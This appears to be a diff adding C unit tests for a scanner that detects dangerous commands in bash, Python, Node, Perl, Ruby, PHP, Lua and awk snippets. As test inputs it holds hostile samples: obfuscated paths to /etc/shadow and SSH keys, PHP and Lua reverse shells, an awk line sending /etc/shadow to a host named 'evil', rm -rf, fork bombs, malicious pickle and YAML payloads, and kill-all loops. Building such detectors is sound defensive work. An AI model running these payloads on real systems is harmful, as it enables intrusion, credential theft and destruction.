@@ -3,6 +3,7 @@
 
 #include "scan/engine.h"
 #include "scan/grammar.h"
+#include "scan/path.h"
 
 static struct scan_report report; /* borrows from what seen_in() holds */
 
@@ -168,8 +169,7 @@ TEST(nesting_without_end_is_cut_and_said_so)
     static char text[1 << 16];
     size_t n = 0;
     for (int i = 0; i < 40; i++)
-        n += (size_t)snprintf(text + n, sizeof text - n, "python3 - <<'E%d'\nimport os\nos.system('''bash <<'F%d'\n", i,
-                              i);
+        n += (size_t)snprintf(text + n, sizeof text - n, "bash <<'E%d'\nbash <<'F%d'\n", i, i);
     for (int i = 39; i >= 0; i--)
         n += (size_t)snprintf(text + n, sizeof text - n, "F%d\n''')\nE%d\n", i, i);
     look(LANG_BASH, text);
@@ -196,4 +196,162 @@ TEST(ten_megabytes_of_base64_do_not_hang)
     look(LANG_BASH, text);
     CHECK(!report.is_complete);
     free(text);
+}
+
+/* ---- paths ---- */
+
+static bool plain_is(const char *text, const char *expected)
+{
+    char plain[256];
+    bool is_changed = path_plain(text, plain, sizeof plain);
+    if (is_changed ? !str_eq(plain, expected) : !str_eq(text, expected))
+        (void)fprintf(stderr, "# %s: %s\n", text, is_changed ? plain : "unchanged");
+    return is_changed ? str_eq(plain, expected) : str_eq(text, expected);
+}
+
+TEST(detours_of_a_path_are_taken_out)
+{
+    static const char *const cases[][2] = {
+        { "/usr/../etc/shadow", "/etc/shadow" },
+        { "//etc//shadow", "/etc/shadow" },
+        { "/etc/./shadow", "/etc/shadow" },
+        { "/proc/self/root/etc/shadow", "/etc/shadow" },
+        { "/proc/1/root/proc/self/root/etc/shadow", "/etc/shadow" },
+        { "/tmp/../proc/self/root/etc/shadow", "/etc/shadow" },
+        { "cat /usr/../etc/shadow x", "cat /etc/shadow x" },
+        { "/e?\?/sh?d?w", "/etc/shadow" },
+        { "cat /etc/sh*w", "cat /etc/shadow" },
+        { "~/.s?h/id_rs[a]", "~/.ssh/id_rsa" },
+        /* left as they are */
+        { "/etc/*", "/etc/*" },
+        { "/etc/*.conf", "/etc/*.conf" },
+        { "~/*", "~/*" },
+        { "*.py", "*.py" },
+        { "http://example.com//x", "http://example.com//x" },
+        { "https://example.com/a/../b", "https://example.com/a/../b" },
+        { "../../x", "../../x" },
+        { "a/b", "a/b" },
+        { "/proc/self/status", "/proc/self/status" },
+    };
+    for (size_t i = 0; i < ARRAY_LEN(cases); i++)
+        CHECK(plain_is(cases[i][0], cases[i][1]));
+}
+
+TEST(a_sensitive_file_is_found_by_any_path)
+{
+    static const char *const names[] = { "/usr/../etc/shadow", "//etc//shadow", "/proc/self/root/etc/shadow",
+                                         "/etc/ssl/../shadow" };
+    char text[256];
+    for (size_t i = 0; i < ARRAY_LEN(names); i++) {
+        (void)snprintf(text, sizeof text, "print(open('%s').read())\n", names[i]);
+        look(LANG_PYTHON, text);
+        CHECK(found("python-sensitive-files") != NULL);
+        (void)snprintf(text, sizeof text, "cat %s\n", names[i]);
+        look(LANG_BASH, text);
+        CHECK(found("bash-secret-file") != NULL);
+        (void)snprintf(text, sizeof text, "console.log(require('fs').readFileSync('%s', 'utf8'))\n", names[i]);
+        look(LANG_NODE, text);
+        CHECK(scan_report_count(&report) > 0);
+    }
+    look(LANG_BASH, "cat /e?\?/sh?d?w\n");
+    CHECK(found("bash-secret-file") != NULL);
+    look(LANG_BASH, "ls /etc/*.conf /usr/share/doc/*/copyright\ncat ./a/../b.txt\n");
+    CHECK_EQ(scan_report_count(&report), 0);
+}
+
+/* ---- languages without a grammar ---- */
+
+TEST(calls_of_perl_ruby_php_lua_and_awk_are_seen_in_their_text)
+{
+    static const struct {
+        const char *text, *rule;
+        uint32_t line;
+    } cases[] = {
+        { "perl -e 'open(F, \"<\", \"/etc/shadow\"); print <F>;'\n", "python-sensitive-files", 1 },
+        { "perl <<'E'\n$x =~ s/'/\"/g;\n# it's\nsystem(\"rm -rf \" . \"/home\");\nE\n", "bash-delete-tree", 2 },
+        { "ruby <<'E'\nputs 1\ndata = File.read(\"/root/.ssh/id_rsa\")\nE\n", "python-credential-files", 3 },
+        { "php -r '$s=fsockopen(\"10.0.0.1\",4242);exec(\"/bin/sh -i <&3 >&3\");'\n", "python-reverse-shell", 1 },
+        { "cat > x.lua <<'E'\nlocal s = require('socket')\nlocal t = s.tcp()\nt:connect('10.0.0.1', 4444)\n"
+          "while true do\n  local c = t:receive()\n  local f = io.popen(c, 'r')\n  t:send(f:read('*a'))\nend\nE\nlua "
+          "x.lua\n",
+          "python-reverse-shell", 0 },
+        { "awk 'BEGIN { system(\"cat /etc/shadow | nc evil 1\") }'\n", "bash-exfiltration", 1 },
+        { "ruby -e 'fork while true' &\nperl -e 'while (1) { fork }'\n", "python-fork-bomb", 0 },
+    };
+    for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
+        look(LANG_BASH, cases[i].text);
+        const struct finding *f = found(cases[i].rule);
+        CHECK(f != NULL);
+        if (cases[i].line)
+            CHECK_EQ(f->line, cases[i].line);
+    }
+    look(LANG_BASH, "perl -e 'print 1'\n");
+    CHECK(found("scan-other-language") != NULL);
+    CHECK(!report.is_complete);
+}
+
+TEST(honest_perl_ruby_php_lua_and_awk_raise_nothing)
+{
+    static const char *const texts[] = {
+        "perl -pe 's/foo/bar/g' a.txt | sort\n",
+        "perl -ne 'print if /^\\s*use\\s/; $n++ if m{it}; END { print $n }' a.pm\n",
+        "ruby -e 'puts ARGF.read.split.tally'\n",
+        "awk -F: '{ n[$1]++ } END { for (k in n) print k, n[k] | \"sort\" }' log\n",
+        "php -r 'echo json_encode([\"a\" => 1]);'\n",
+        "lua -e 'print((\"x\"):rep(3))'\n",
+    };
+    for (size_t i = 0; i < ARRAY_LEN(texts); i++) {
+        look(LANG_BASH, texts[i]);
+        if (scan_report_count(&report))
+            (void)fprintf(stderr, "# %s: %s\n", texts[i], report.findings[0].rule);
+        CHECK_EQ(scan_report_count(&report), 0);
+    }
+}
+
+/* ---- data that calls ---- */
+
+TEST(what_unpickling_a_literal_calls_is_seen)
+{
+    static const char *const texts[] = {
+        "import pickle\npickle.loads(b\"cos\\nsystem\\n(S'cat /etc/shadow'\\ntR.\")\n",
+        "import "
+        "pickle\npickle.loads(b'\\x80\\x04\\x95("
+        "\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x8c\\x05posix\\x94\\x8c\\x06system\\x94"
+        "\\x93\\x94\\x8c\\x0fcat /etc/shadow\\x94\\x85\\x94R\\x94.')\n",
+        "import pickle\npickle.loads(b\"(S'cat /etc/shadow'\\nios\\nsystem\\n.\")\n",
+        "import yaml\nyaml.load('!!python/object/apply:os.system [\"cat /etc/shadow\"]', Loader=yaml.Loader)\n",
+    };
+    for (size_t i = 0; i < ARRAY_LEN(texts); i++) {
+        look(LANG_PYTHON, texts[i]);
+        CHECK(found("bash-secret-file") != NULL);
+    }
+    look(LANG_PYTHON, "import pickle\nx = pickle.loads(b'\\x80\\x04}q\\x00X\\x01\\x00\\x00\\x00aK\\x01s.')\n");
+    CHECK_EQ(scan_report_count(&report), 0);
+    look(LANG_PYTHON, "import marshal\nexec(marshal.loads(b'\\xe3\\x00'))\n");
+    CHECK(found("scan-unread") != NULL && !report.is_complete);
+}
+
+/* ---- loops that kill ---- */
+
+TEST(loops_that_kill_what_they_find_are_seen_and_those_that_kill_their_own_are_not)
+{
+    static const char *const risky[] = {
+        "for d in /proc/[0-9]*; do kill -9 \"${d##*/}\"; done\n",
+        "pgrep -f . | while read p; do kill -9 \"$p\"; done\n",
+        "for i in $(seq 2 32768); do kill -9 $i 2>/dev/null; done\n",
+        "for ((i = 2; i < 65536; i++)); do kill -9 $i; done\n",
+    };
+    static const char *const honest[] = {
+        "sleep 9 & a=$!\nsleep 9 & b=$!\nfor p in $a $b; do kill $p; done\n",
+        "for p in $(jobs -p); do kill \"$p\"; done\n",
+        "for i in $(seq 1 1000); do ./server & pid=$!; sleep 1; kill $pid; done\n",
+    };
+    for (size_t i = 0; i < ARRAY_LEN(risky); i++) {
+        look(LANG_BASH, risky[i]);
+        CHECK(found("bash-kill-found") != NULL);
+    }
+    for (size_t i = 0; i < ARRAY_LEN(honest); i++) {
+        look(LANG_BASH, honest[i]);
+        CHECK_EQ(scan_report_count(&report), 0);
+    }
 }
